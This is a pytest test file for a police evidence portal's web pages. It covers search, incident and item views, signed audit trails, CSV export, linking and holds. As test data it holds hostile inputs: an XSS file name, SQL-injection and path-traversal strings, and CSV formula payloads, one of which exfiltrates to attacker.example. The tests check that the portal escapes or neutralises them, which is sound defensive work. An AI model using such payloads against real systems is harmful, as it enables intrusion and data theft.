"""The portal's pages as investigators, officers and storage admins use them: search, an incident, an
item, audit trails, and linking, unlinking and holds (``web/routers/{search,incidents,items,audit,links,
holds}.py`` over ``flows/``).

One station for the module (a few real photos with EXIF GPS, a short MP4, a photo whose file name is
markup), shared by every test; tests that change state use their own incident so the others' views
stay as set up."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from urllib.parse import parse_qs, urlparse

import pytest
from fastapi.testclient import TestClient

from evidence.access import Actor
from evidence.errors import IntegrityError, StorageUnavailable
from evidence.incident import IncidentRef
from flows import search as searching
from flows.holds import set_hold
from flows.linking import link_items
from storage.accounts import SessionRecord
from storage.audit_log import AuditLog
from tests.factories import DEFAULT_TAKEN, make_jpeg, make_mp4
from tests.signing_in import TestPortal, make_test_portal
from tests.station import Station
from web.portal import Portal
from web.sessions import SESSION_COOKIE

INCIDENT = "KNT-2026-000123"
SLASHED = "37/12345/26"
HOSTILE_NAME = "<img src=x onerror=alert(1)>.jpg"
IVY = Actor("ivy", frozenset({"investigator"}))
TWO_DAYS_LATER = DEFAULT_TAKEN + timedelta(days=2)


# -- the portal under test ----------------------------------------------------------------------------


@dataclass
class PagesPortal:
    """The module's portal; people sign in through the real sign-in form (``tests.signing_in``)."""

    test_portal: TestPortal
    ids: dict[str, str]
    """Evidence id by the file name it was ingested from."""

    @property
    def station(self) -> Station:
        return self.test_portal.station

    @property
    def portal(self) -> Portal:
        return self.test_portal.portal

    signed_in: dict[str, TestClient] = field(default_factory=dict)

    def client(self, user_id: str) -> TestClient:
        """``user_id``'s session shared by the module's tests (signing in costs an Argon2 hash)."""
        if user_id not in self.signed_in:
            self.signed_in[user_id] = self.new_session(user_id)
        return self.signed_in[user_id]

    def new_session(self, user_id: str) -> TestClient:
        """A session of its own, with no purposes given yet."""
        return self.test_portal.signed_in_client(user_id)

    def session_of(self, client: TestClient) -> SessionRecord:
        record = self.portal.accounts.session(client.cookies[SESSION_COOKIE])
        assert record is not None
        return record


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> PagesPortal:
    root = tmp_path_factory.mktemp("pages")
    test_portal = make_test_portal(root / "station")
    station = test_portal.station
    first = root / "BWC-PAGES1" / "DCIM"
    make_jpeg(first / "IMG_0001.JPG", size=(64, 48), taken=DEFAULT_TAKEN, gps=(51.501, -0.1419), seed=1)
    make_jpeg(first / HOSTILE_NAME, size=(64, 48), taken=TWO_DAYS_LATER, gps=(53.4808, -2.2426), seed=2)
    make_mp4(first / "VID_0001.MP4", seconds=1.0, size=(64, 48), fps=5, seed=3)
    second = root / "BWC-PAGES2" / "DCIM"
    make_jpeg(second / "IMG_0101.JPG", size=(64, 48), gps=(52.2053, 0.1218), seed=4, taken=None)
    station.ingest(root / "BWC-PAGES1", serial="BWC-PAGES1", officer="PC-11")
    station.ingest(root / "BWC-PAGES2", serial="BWC-PAGES2", officer="PC-22")
    ids: dict[str, str] = {}
    for item in station.catalog.items():
        details = station.vault.details(station.vault.manifest(item.evidence_id))
        ids[details.original_name] = item.evidence_id
    vault, catalog = station.vault, station.catalog
    first_ids = [ids["IMG_0001.JPG"], ids[HOSTILE_NAME], ids["VID_0001.MP4"]]
    link_items(vault, catalog, first_ids, IncidentRef(INCIDENT), IVY, reason="scene photos")
    link_items(vault, catalog, [ids["IMG_0101.JPG"]], IncidentRef(SLASHED), IVY, reason="found later")
    set_hold(vault, catalog, IncidentRef(INCIDENT), "Crown Court trial listed", IVY)
    for user_id, role in (("ivy", "investigator"), ("olly", "officer"), ("sam", "storage-admin")):
        test_portal.enrol(user_id, role)
    return PagesPortal(test_portal, ids)


def events_of(pages: PagesPortal, evidence_id: str) -> list[dict[str, object]]:
    return [
        {"type": e.type, "actor": e.actor, **e.details}
        for e in pages.station.vault.custody.events(evidence_id)
    ]


def result_ids(html: str) -> list[str]:
    return re.findall(r'class="evidence-id" href="/items/(ev-[a-z2-7]{26})"', html)


def form_token(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, html[:2000]
    return found.group(1)


def test_nobody_signed_out_reaches_a_page_or_changes_anything(pages: PagesPortal) -> None:
    stranger = pages.test_portal.client()
    photo = pages.ids["IMG_0001.JPG"]
    for url in ("/search?officer=PC-11", f"/incidents/{INCIDENT}", f"/items/{photo}", "/audit/users/ivy.csv"):
        answer = stranger.get(url)
        assert answer.status_code == 303 and answer.headers["location"].startswith("/sign-in?next="), url
    before = len(events_of(pages, photo))
    for url, form in (
        (f"/incidents/{INCIDENT}/links", {"evidence_ids": photo}),
        (f"/items/{photo}/unlink", {"incident": INCIDENT, "reason": "x"}),
        (f"/incidents/{INCIDENT}/hold", {"reason": "x"}),
        (f"/incidents/{INCIDENT}/hold/release", {"reason": "x"}),
        (f"/items/{photo}/purpose", {"purpose": "x"}),
    ):
        assert stranger.post(url, data=form).status_code in (401, 403), url
    assert len(events_of(pages, photo)) == before


# -- search ---------------------------------------------------------------------------------------------


def test_search_finds_by_each_criterion_and_shows_what_the_catalog_knows(pages: PagesPortal) -> None:
    ivy = pages.client("ivy")
    ids = pages.ids
    everything = set(ids.values())

    def found(**query: str) -> set[str]:
        answer = ivy.get("/search", params=query)
        assert answer.status_code == 200, answer.text
        return set(result_ids(answer.text))

    assert found(incident=INCIDENT) == {ids["IMG_0001.JPG"], ids[HOSTILE_NAME], ids["VID_0001.MP4"]}
    assert found(incident=SLASHED.lower()) == {ids["IMG_0101.JPG"]}
    assert found(officer="PC-22") == {ids["IMG_0101.JPG"]}
    assert found(device="BWC-PAGES1") == everything - {ids["IMG_0101.JPG"]}
    assert found(media="video") == {ids["VID_0001.MP4"]}
    assert found(media="photo") == everything - {ids["VID_0001.MP4"]}
    assert found(media="audio") == set() and found(media="other") == set()
    # the photo taken 2026-03-14 21:05 +01:00 is 20:05 UTC that day, as is the video; the other photo
    # two days later; the undated one counts by its ingest time (today, later than all of them)
    assert found(**{"from": "2026-03-14", "to": "2026-03-14"}) == {ids["IMG_0001.JPG"], ids["VID_0001.MP4"]}
    assert found(**{"from": "2026-03-15", "to": "2026-03-16"}) == {ids[HOSTILE_NAME]}
    assert found(**{"from": "2026-03-17"}) == {ids["IMG_0101.JPG"]}
    assert found(to="2026-03-13") == set()
    assert found(incident=INCIDENT, media="video", officer="PC-11") == {ids["VID_0001.MP4"]}
    row = ivy.get("/search", params={"media": "video"}).text
    for shown in ("2026-03-14 20:", "PC-11", "BWC-PAGES1", "video/mp4", f'href="/incidents/{INCIDENT}"'):
        assert shown in row
    slashed = ivy.get("/search", params={"officer": "PC-22"}).text
    assert 'href="/incidents/37/12345/26"' in slashed and "unknown-device" in slashed


def test_search_pages_carry_the_criteria_in_a_stable_order(
    pages: PagesPortal, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(searching, "PAGE_SIZE", 2)
    ivy = pages.client("ivy")
    first = ivy.get("/search", params={"device": "BWC-PAGES1"})
    assert "Items 1&ndash;2 of 3" in first.text and 'id="previous-page"' not in first.text
    next_link = re.search(r'id="next-page" href="([^"]+)"', first.text)
    assert next_link is not None
    target = next_link.group(1).replace("&amp;", "&")
    assert parse_qs(urlparse(target).query) == {"device": ["BWC-PAGES1"], "page": ["2"]}
    second = ivy.get(target)
    assert "Items 3&ndash;3 of 3" in second.text and 'id="next-page"' not in second.text
    back = re.search(r'id="previous-page" href="([^"]+)"', second.text)
    assert back is not None and ivy.get(back.group(1).replace("&amp;", "&")).text == first.text
    shown = result_ids(first.text) + result_ids(second.text)
    assert len(set(shown)) == 3
    catalogued = [i.evidence_id for i in pages.station.catalog.items(device="BWC-PAGES1")]
    assert shown == catalogued  # recording time, then id: what the catalog orders by
    past = ivy.get("/search", params={"device": "BWC-PAGES1", "page": "9"})
    assert past.status_code == 200 and "Page 9 is past the last page: 3 item(s) match." in past.text


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"incident": "KNT-26-1"}, "is not an incident reference"),
        ({"incident": "КNT-2026-000123"}, "outside plain ASCII"),
        ({"officer": "PC 11; DROP TABLE items"}, "officer id"),
        ({"device": "../../etc"}, "device serial"),
        ({"from": "14/03/2026"}, "from date"),
        ({"from": "2026-03-15", "to": "2026-03-14"}, "before the from date"),
        ({"media": "hologram"}, "media type"),
        ({"page": "0"}, "page"),
        ({"page": "9" * 500}, "page"),
    ],
)
def test_bad_search_input_is_a_400_page_saying_what_is_wrong(
    pages: PagesPortal, query: dict[str, str], message: str
) -> None:
    ivy = pages.client("ivy")
    answer = ivy.get("/search", params=query)
    assert answer.status_code == 400
    problem = re.search(r'id="search-problem">([^<]*)<', answer.text)
    assert problem is not None and message in problem.group(1)
    assert "Traceback" not in answer.text and 'id="results"' not in answer.text


def test_each_search_is_recorded_signed_with_who_how_where_and_what(pages: PagesPortal) -> None:
    olly = pages.client("olly")
    answer = olly.get("/search", params={"officer": "PC-11", "media": "photo", "page": "1"})
    assert answer.status_code == 200
    person = pages.session_of(olly)
    audit_log = pages.portal.audit_log
    recorded = list(audit_log.searches_by("olly"))
    assert len(recorded) == 1
    search = recorded[0]
    assert (search.role, search.sign_in, search.session, search.client) == (
        "officer",
        "password+totp",
        person.session_id,
        "testclient",
    )
    assert dict(search.criteria) == {"officer": "PC-11", "media": "photo", "page": "1"}
    assert search.result_count == 2
    keys = pages.station.vault.custody.public_keys()
    assert audit_log.verify(keys).intact
    assert search.signer == pages.station.vault.custody.signer.key_id


def test_the_search_log_refuses_changes_and_its_verification_finds_them(pages: PagesPortal) -> None:
    url = pages.station.settings.accounts_url
    signer = pages.station.vault.custody.signer
    keys = {signer.key_id: signer.verifying_key}
    log = AuditLog(url.replace("accounts.sqlite", "search-log-test.sqlite"), signer=signer)
    for count in range(3):
        log.record_search(
            user_id="ivy",
            role="investigator",
            who={"sign_in": "oidc", "session": "s1", "client": "10.0.0.9"},
            criteria={"incident": INCIDENT},
            result_count=count,
        )
    assert log.verify(keys).intact and log.verify(keys).records == 3
    import sqlalchemy as sa

    engine = sa.create_engine(url.replace("accounts.sqlite", "search-log-test.sqlite"))
    with engine.begin() as conn:
        for statement in ("UPDATE portal_searches SET result_count = 9", "DELETE FROM portal_searches"):
            with pytest.raises(sa.exc.IntegrityError, match="append-only"):
                conn.exec_driver_sql(statement)
    with engine.begin() as conn:  # the owner of the file can drop the guard; the chain still shows it
        conn.exec_driver_sql("DROP TRIGGER portal_searches_no_UPDATE")
        conn.exec_driver_sql("DROP TRIGGER portal_searches_no_DELETE")
        conn.exec_driver_sql("UPDATE portal_searches SET result_count = 9 WHERE seq = 1")
        conn.exec_driver_sql("DELETE FROM portal_searches WHERE seq = 0")
    problems = log.verify(keys).problems
    assert any("record 0 is missing" in p for p in problems)
    assert any("record 1 does not match its signature" in p for p in problems)
    engine.dispose()
    log.close()


# -- an incident ------------------------------------------------------------------------------------------


def test_the_incident_page_asks_a_purpose_once_then_shows_thumbnails_history_holds_and_retention(
    pages: PagesPortal,
) -> None:
    ivy = pages.new_session("ivy")
    linked = [pages.ids["IMG_0001.JPG"], pages.ids[HOSTILE_NAME], pages.ids["VID_0001.MP4"]]
    before = {evidence_id: len(events_of(pages, evidence_id)) for evidence_id in linked}
    asking = ivy.get(f"/incidents/{INCIDENT}")
    assert asking.status_code == 200
    assert 'id="purpose-form"' in asking.text and 'src="/items/' not in asking.text
    assert {e: len(events_of(pages, e)) for e in linked} == before  # nothing decrypted, nothing recorded
    for evidence_id in linked:
        assert f'id="item-{evidence_id}"' in asking.text
    assert asking.text.count("held</strong>: incident:KNT-2026-000123") == 3
    assert asking.text.count("hold set by ivy") == 3 and "Crown Court trial listed" in asking.text
    assert asking.text.count(f"linked {INCIDENT} by ivy") == 3 and ": scene photos" in asking.text
    # held items are kept whatever the policy's date; the page says so, and how long storage locks them
    assert asking.text.count("a hold keeps it") == 3 and "storage locked until" in asking.text

    purpose = "CPS disclosure, case file 3"
    refused = ivy.post(f"/incidents/{INCIDENT}/purpose", data={"purpose": purpose})
    assert refused.status_code == 403
    given = ivy.post(
        f"/incidents/{INCIDENT}/purpose", data={"purpose": purpose, "csrf_token": form_token(asking.text)}
    )
    assert (given.status_code, given.headers["location"]) == (303, f"/incidents/{INCIDENT}")
    shown = ivy.get(f"/incidents/{INCIDENT}")
    assert 'id="purpose-form"' not in shown.text
    for evidence_id in linked:
        assert f'src="/items/{evidence_id}/thumbnail"' in shown.text
        view = events_of(pages, evidence_id)[-1]
        assert view["type"] == "access" and view["action"] == "view" and view["purpose"] == purpose
        assert (view["incident"], view["via"], view["sign_in"], view["client"]) == (
            INCIDENT,
            "portal",
            "password+totp",
            "testclient",
        )
    assert re.search(r'<dd class="duration">1\.0 s</dd>', shown.text)  # the video's, from its sealed details
    # the thumbnails the page shows are served for this session's purpose (web/routers/content.py)
    thumbnail = ivy.get(f"/items/{linked[0]}/thumbnail")
    assert thumbnail.status_code == 200 and thumbnail.headers["content-type"] == "image/jpeg"
    assert pages.new_session("ivy").get(f"/items/{linked[0]}/thumbnail").status_code == 403
    # the purpose was remembered for each item: the item page does not ask again
    assert 'id="purpose-form"' not in ivy.get(f"/items/{linked[0]}").text


def test_an_item_that_does_not_verify_is_named_on_the_incident_page_and_not_decrypted(
    pages: PagesPortal, monkeypatch: pytest.MonkeyPatch
) -> None:
    ivy = pages.client("ivy")
    broken = pages.ids[HOSTILE_NAME]
    vault = pages.station.vault
    verify = vault.verify_item

    def verify_item(evidence_id: str, **kwargs: object):  # type: ignore[no-untyped-def]
        if evidence_id == broken:
            raise IntegrityError(
                f"custody chain of {evidence_id} is broken: event 2: signature does not match"
            )
        return verify(evidence_id, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(vault, "verify_item", verify_item)
    token = form_token(ivy.get(f"/incidents/{INCIDENT}").text)
    ivy.post(f"/incidents/{INCIDENT}/purpose", data={"purpose": "check", "csrf_token": token})
    before = len(events_of(pages, broken))
    page = ivy.get(f"/incidents/{INCIDENT}")
    assert page.status_code == 200
    assert "Not shown: custody chain of" in page.text and "signature does not match" in page.text
    assert f'src="/items/{broken}/thumbnail"' not in page.text
    assert f'src="/items/{pages.ids["IMG_0001.JPG"]}/thumbnail"' in page.text  # the others still show
    assert len(events_of(pages, broken)) == before  # refused before any access was recorded


def test_a_reference_with_slashes_round_trips_through_the_incident_page_and_its_forms(
    pages: PagesPortal,
) -> None:
    ivy = pages.client("ivy")
    page = ivy.get("/incidents/37/12345/26")
    assert page.status_code == 200 and pages.ids["IMG_0101.JPG"] in page.text
    assert 'action="/incidents/37/12345/26/purpose"' in page.text
    assert 'action="/incidents/37/12345/26/links"' in page.text
    assert ivy.get("/incidents/37%2F12345%2F26").status_code == 200
    given = ivy.post(
        "/incidents/37/12345/26/purpose", data={"purpose": "review", "csrf_token": form_token(page.text)}
    )
    assert (given.status_code, given.headers["location"]) == (303, "/incidents/37/12345/26")
    assert ivy.get("/incidents/KNT-2026-999999").status_code == 404
    bad = ivy.get("/incidents/37/12345/26/../../etc")
    assert bad.status_code in (400, 404) and "Traceback" not in bad.text


def test_each_role_sees_what_it_may_and_an_officer_gets_403_for_an_item(pages: PagesPortal) -> None:
    olly = pages.client("olly")
    page = olly.get(f"/incidents/{INCIDENT}")
    assert page.status_code == 200
    assert 'id="purpose-form"' not in page.text and "/thumbnail" not in page.text
    assert 'href="/items/' not in page.text  # no evidence details for an officer
    assert 'id="link-form"' in page.text and 'action="/items/' in page.text  # may link and unlink
    for absent in ('id="hold-form"', 'id="release-form"', 'id="export-form"'):
        assert absent not in page.text
    evidence_id = pages.ids["IMG_0001.JPG"]
    before = len(events_of(pages, evidence_id))
    refused = olly.get(f"/items/{evidence_id}")
    assert refused.status_code == 403 and "may not get" in refused.text
    token = form_token(page.text)
    assert (
        olly.post(f"/items/{evidence_id}/purpose", data={"purpose": "x", "csrf_token": token}).status_code
        == 403
    )
    assert (
        olly.post(f"/incidents/{INCIDENT}/purpose", data={"purpose": "x", "csrf_token": token}).status_code
        == 403
    )
    assert len(events_of(pages, evidence_id)) == before
    sam = pages.client("sam")
    admin_page = sam.get(f"/incidents/{INCIDENT}").text
    assert 'id="hold-form"' in admin_page and 'id="release-form"' in admin_page
    assert 'id="link-form"' not in admin_page and "/thumbnail" not in admin_page
    ivy_page = pages.client("ivy").get(f"/incidents/{INCIDENT}").text
    assert 'id="hold-form"' in ivy_page and 'id="export-form"' in ivy_page
    assert 'id="release-form"' not in ivy_page


# -- an item ------------------------------------------------------------------------------------------------


def open_item(client: TestClient, evidence_id: str, purpose: str) -> str:
    """Give the item page a purpose for this session (the form it asks with, or the one it offers to
    change it) and return the page it then shows."""
    before = client.get(f"/items/{evidence_id}")
    assert before.status_code == 200, before.text
    given = client.post(
        f"/items/{evidence_id}/purpose", data={"purpose": purpose, "csrf_token": form_token(before.text)}
    )
    assert (given.status_code, given.headers["location"]) == (303, f"/items/{evidence_id}")
    page = client.get(f"/items/{evidence_id}")
    assert page.status_code == 200, page.text
    assert f'id="purpose">{purpose}<' in page.text.replace("&#34;", '"').replace("&amp;", "&")
    return page.text


def test_the_item_page_shows_the_player_sealed_metadata_location_and_verified_chain(
    pages: PagesPortal,
) -> None:
    ivy = pages.new_session("ivy")
    photo = pages.ids["IMG_0001.JPG"]
    asking = ivy.get(f"/items/{photo}")
    assert 'id="purpose-form"' in asking.text and "IMG_0001.JPG" not in asking.text
    assert (
        ivy.post(
            f"/items/{photo}/purpose", data={"purpose": " ", "csrf_token": form_token(asking.text)}
        ).status_code
        == 400
    )
    page = open_item(ivy, photo, "identify the scene")
    vault = pages.station.vault
    details = vault.details(vault.manifest(photo))
    assert f'id="original-name">{details.original_name}<' in page
    assert f'id="source-path">{details.source_path}<' in page and f'id="sha256">{details.sha256}<' in page
    assert "51.501000" in page and "-0.141900" in page and 'href="geo:51.501000,-0.141900"' in page
    assert f'<img class="photo" src="/items/{photo}/content"' in page
    assert f'id="download" href="/items/{photo}/content?download=1"' in page
    assert "ACME" in page and "BWC-1" in page  # capture metadata: the camera's make and model
    chain = events_of(pages, photo)
    assert re.search(rf'id="custody-verification" class="ok">\s*Verified: {len(chain)} events', page)
    view = chain[-1]
    person = pages.session_of(ivy)
    assert view == {
        "type": "access",
        "actor": "ivy",
        "action": "view",
        "purpose": "identify the scene",
        "sealed_details": True,
        "via": "portal",
        "sign_in": "password+totp",
        "session": person.session_id,
        "client": "testclient",
    }
    video = open_item(ivy, pages.ids["VID_0001.MP4"], "identify the scene")
    assert f'<video controls preload="metadata" src="/items/{pages.ids["VID_0001.MP4"]}/content">' in video
    assert "duration_seconds" in video and "The file states no location." in video


def test_the_view_is_recorded_before_anything_decrypted_is_shown(
    pages: PagesPortal, monkeypatch: pytest.MonkeyPatch
) -> None:
    ivy = pages.client("ivy")
    photo = pages.ids["IMG_0101.JPG"]
    vault = pages.station.vault
    opened = vault.details
    seen: list[dict[str, object]] = []

    def details_after_the_record(manifest):  # type: ignore[no-untyped-def]
        seen.append(events_of(pages, manifest.evidence_id)[-1])
        return opened(manifest)

    monkeypatch.setattr(vault, "details", details_after_the_record)
    open_item(ivy, photo, "check before")
    # every decryption came after its own view was in the chain
    assert seen and all(e["action"] == "view" and e["actor"] == "ivy" for e in seen)
    assert seen[-1]["purpose"] == "check before"

    def refuse(*args: object, **kwargs: object) -> None:
        raise StorageUnavailable("the store is down")

    monkeypatch.setattr(vault.custody, "append", refuse)
    seen.clear()
    before = len(events_of(pages, photo))
    failed = ivy.get(f"/items/{photo}")
    assert failed.status_code == 503 and "the store is down" in failed.text
    assert not seen  # never decrypted
    sealed = opened(vault.manifest(photo))
    for secret in (sealed.original_name, sealed.sha256, sealed.source_path, "52.205300"):
        assert secret not in failed.text
    assert len(events_of(pages, photo)) == before


def test_a_device_file_name_that_is_markup_shows_as_text(pages: PagesPortal) -> None:
    page = open_item(pages.client("ivy"), pages.ids[HOSTILE_NAME], "check the name")
    assert 'id="original-name">&lt;img src=x onerror=alert(1)&gt;.jpg<' in page
    assert "<img src=x" not in page and "onerror=alert(1)>" not in page
    assert "53.480800" in page  # the rest of the page is there


# -- audit trails -------------------------------------------------------------------------------------------


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_audit_trails_are_pages_and_csv_for_a_storage_admin_and_refused_to_others(pages: PagesPortal) -> None:
    ivy = pages.client("ivy")
    photo = pages.ids["IMG_0001.JPG"]
    open_item(ivy, photo, "audit me")
    ivy.get("/search", params={"incident": INCIDENT})
    ivy_session = pages.session_of(ivy).session_id
    sam = pages.client("sam")

    item_page = sam.get(f"/audit/items/{photo}")
    assert item_page.status_code == 200 and "Custody chain verified" in item_page.text
    chain = events_of(pages, photo)
    for form in (f"/audit/items/{photo}?format=csv", f"/audit/items/{photo}.csv"):
        answer = sam.get(form)
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        assert answer.headers["content-disposition"] == f'attachment; filename="audit-{photo}.csv"'
        rows = csv_rows(answer.text)
        assert [r["event"] for r in rows] == [e["type"] for e in chain]
    last = rows[-1]
    assert (last["user"], last["action"], last["purpose"], last["session"], last["via"]) == (
        "ivy",
        "view",
        "audit me",
        ivy_session,
        "portal",
    )
    assert rows[0]["event"] == "ingest" and "hold" in [r["event"] for r in rows]

    user_page = sam.get("/audit/users/ivy")
    assert user_page.status_code == 200 and "audit me" in user_page.text
    trail = csv_rows(sam.get("/audit/users/ivy.csv").text)
    assert trail == csv_rows(sam.get("/audit/users/ivy", params={"format": "csv"}).text)
    assert [r["at"] for r in trail] == sorted(r["at"] for r in trail)
    assert {r["event"] for r in trail} == {"access", "search", "sign-in"}
    signed = [r for r in trail if r["event"] == "sign-in" and r["session"] == ivy_session]
    assert len(signed) == 1 and (signed[0]["sign_in"], signed[0]["client"]) == ("password+totp", "testclient")
    assert all(r["user"] == "ivy" for r in trail)
    views = [r for r in trail if r["event"] == "access" and r["evidence_id"] == photo]
    assert views[-1]["purpose"] == "audit me" and views[-1]["session"] == ivy_session
    searched = [r for r in trail if r["event"] == "search"]
    assert searched[-1]["incident"] == INCIDENT and "results=3" in searched[-1]["details"]
    assert sam.get("/audit", params={"user": "ivy"}).headers["location"] == "/audit/users/ivy"

    for other in (ivy, pages.client("olly")):
        for url in (f"/audit/items/{photo}", f"/audit/items/{photo}.csv", "/audit/users/ivy.csv", "/audit"):
            assert other.get(url).status_code == 403, url
    assert sam.get("/audit/users/not a user").status_code == 400
    assert sam.get("/audit/items/ev-nosuchitem").status_code == 400


def test_csv_cells_a_spreadsheet_would_run_are_made_inert(pages: PagesPortal) -> None:
    from web.csv_download import inert

    for hostile in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert inert(hostile) == "'" + hostile
    assert inert("CPS disclosure = yes") == "CPS disclosure = yes"
    ivy = pages.client("ivy")
    video = pages.ids["VID_0001.MP4"]
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    open_item(ivy, video, formula)
    sam = pages.client("sam")
    for url in (f"/audit/items/{video}.csv", "/audit/users/ivy.csv"):
        rows = csv_rows(sam.get(url).text)
        mine = [r for r in rows if r["evidence_id"] == video and r["action"] == "view"][-1]
        assert mine["purpose"] == "'" + formula
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


# -- linking, unlinking and holds ---------------------------------------------------------------------


def test_link_unlink_hold_and_release_round_trip_with_csrf_and_role_checks(pages: PagesPortal) -> None:
    incident = "KNT-2026-000777"
    photo = pages.ids["IMG_0101.JPG"]
    ivy, olly, sam = (
        pages.client("ivy"),
        pages.client("olly"),
        pages.client("sam"),
    )
    ivy_token = form_token(ivy.get(f"/incidents/{INCIDENT}").text)
    link = {"evidence_ids": f"{photo}\n", "reason": "seen on <b>the same</b> street"}
    assert ivy.post(f"/incidents/{incident}/links", data=link).status_code == 403
    assert ivy.post(f"/incidents/{incident}/links", data=link | {"csrf_token": "forged"}).status_code == 403
    assert (
        sam.post(  # a storage admin may not link
            f"/incidents/{incident}/links", data=link | {"csrf_token": form_token(sam.get("/search").text)}
        ).status_code
        == 403
    )
    assert ivy.get(f"/incidents/{incident}").status_code == 404
    linked = ivy.post(f"/incidents/{incident}/links", data=link | {"csrf_token": ivy_token})
    assert linked.status_code == 200 and f"<td>{photo}</td><td>linked</td>" in linked.text
    event = events_of(pages, photo)[-1]
    assert (event["type"], event["incident"], event["reason"], event["via"]) == (
        "link",
        incident,
        "seen on <b>the same</b> street",
        "portal",
    )
    page = ivy.get(f"/incidents/{incident}").text
    assert f"linked {incident} by ivy" in page and "not held" in page
    assert "seen on &lt;b&gt;the same&lt;/b&gt; street" in page and "<b>the same" not in page

    reason = {"reason": "appeal lodged"}
    assert (
        olly.post(
            f"/incidents/{incident}/hold", data=reason | {"csrf_token": form_token(olly.get("/search").text)}
        ).status_code
        == 403
    )
    assert ivy.post(f"/incidents/{incident}/hold", data=reason).status_code == 403
    held = ivy.post(f"/incidents/{incident}/hold", data=reason | {"csrf_token": ivy_token})
    assert held.status_code == 200 and f"<td>{photo}</td><td>held</td>" in held.text
    assert f"incident:{incident}" in pages.station.catalog.item(photo).holds  # type: ignore[union-attr]
    assert "hold set by ivy" in ivy.get(f"/incidents/{incident}").text
    release = {"reason": "appeal dismissed"}
    assert (
        ivy.post(f"/incidents/{incident}/hold/release", data=release | {"csrf_token": ivy_token}).status_code
        == 403
    )
    sam_token = form_token(sam.get(f"/incidents/{incident}").text)
    assert sam.post(f"/incidents/{incident}/hold/release", data=release).status_code == 403
    released = sam.post(f"/incidents/{incident}/hold/release", data=release | {"csrf_token": sam_token})
    assert released.status_code == 200 and f"<td>{photo}</td><td>released" in released.text
    event = events_of(pages, photo)[-1]
    assert (event["type"], event["actor"], event["reason"], event["via"]) == (
        "release",
        "sam",
        "appeal dismissed",
        "portal",
    )
    assert "released by sam" in ivy.get(f"/incidents/{incident}").text

    olly_token = form_token(olly.get(f"/incidents/{incident}").text)
    unlink = {"incident": incident, "reason": "wrong street"}
    assert olly.post(f"/items/{photo}/unlink", data=unlink).status_code == 403
    assert sam.post(f"/items/{photo}/unlink", data=unlink | {"csrf_token": sam_token}).status_code == 403
    unlinked = olly.post(f"/items/{photo}/unlink", data=unlink | {"csrf_token": olly_token})
    assert unlinked.status_code == 200 and f"<td>{photo}</td><td>unlinked</td>" in unlinked.text
    event = events_of(pages, photo)[-1]
    assert (event["type"], event["actor"], event["incident"], event["client"]) == (
        "unlink",
        "olly",
        incident,
        "testclient",
    )
    assert ivy.get(f"/incidents/{incident}").status_code == 404  # nothing linked now
    again = olly.post(f"/items/{photo}/unlink", data=unlink | {"csrf_token": olly_token})
    assert again.status_code == 400 and "not linked" in again.text
    bad = ivy.post(f"/incidents/{incident}/links", data={"evidence_ids": "ev-x", "csrf_token": ivy_token})
    assert bad.status_code == 400 and "not an evidence id" in bad.text


def test_a_catalog_rebuild_restores_the_access_index(pages: PagesPortal, tmp_path: Path) -> None:
    from storage.catalog import Catalog

    open_item(pages.client("ivy"), pages.ids["IMG_0001.JPG"], "before the rebuild")
    indexed = list(pages.station.catalog.accesses_by("ivy"))
    assert indexed and pages.station.catalog.access_index_gap() is None
    fresh = Catalog(f"sqlite:///{tmp_path / 'rebuilt.sqlite'}")
    fresh.rebuild(pages.station.vault)
    assert list(fresh.accesses_by("ivy")) == indexed
    # a catalog made before the access index existed says its trail is partial, until rebuilt
    import sqlalchemy as sa

    engine = sa.create_engine(f"sqlite:///{tmp_path / 'rebuilt.sqlite'}")
    with engine.begin() as conn:
        conn.exec_driver_sql("DROP TABLE access_events")
    engine.dispose()
    fresh.close()
    older = Catalog(f"sqlite:///{tmp_path / 'rebuilt.sqlite'}")
    assert older.access_index_gap() is not None and list(older.accesses_by("ivy")) == []
    older.rebuild(pages.station.vault)
    assert older.access_index_gap() is None and list(older.accesses_by("ivy")) == indexed
    older.close()
